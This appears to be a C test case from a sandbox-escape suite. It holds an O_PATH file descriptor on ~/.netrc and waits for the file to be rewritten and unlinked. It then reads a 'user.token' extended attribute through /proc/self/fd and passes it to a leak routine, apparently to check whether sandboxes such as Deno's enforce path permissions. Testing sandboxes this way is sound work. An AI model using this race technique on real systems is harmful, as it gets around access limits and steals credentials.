// Keeps a blocked file by O_PATH until its owner has written it anew: it has no name any more then,
// and what hangs on it is read by its descriptor's link.
// class: Deno: /dev/fd; OS sandboxes: O_PATH reopened
// plain: leak
// act: replace
// flags: --read {HOME}
// journal: read {HOME}/.netrc (deleted)
#include "race.h"

#include <sys/xattr.h>

int main(int argc, char** argv) {
  (void)argc;
  attack(argv);
  char value[4096];
  const int file = open(text("%s/.netrc", fact("HOME")), O_PATH);
  struct stat about;
  for (int i = 0; race_goes_on(i, 5000); ++i) {
    if (fstat(file, &about) != 0 || about.st_nlink == 0) break;
    usleep(1000);
  }
  printf("links %d\n", (int)about.st_nlink);
  const ssize_t n = getxattr(text("/proc/self/fd/%d", file), "user.token", value, sizeof value);
  if (n > 0)
    leak(value, (size_t)n);
  else
    refused("getxattr");
  return 0;
}
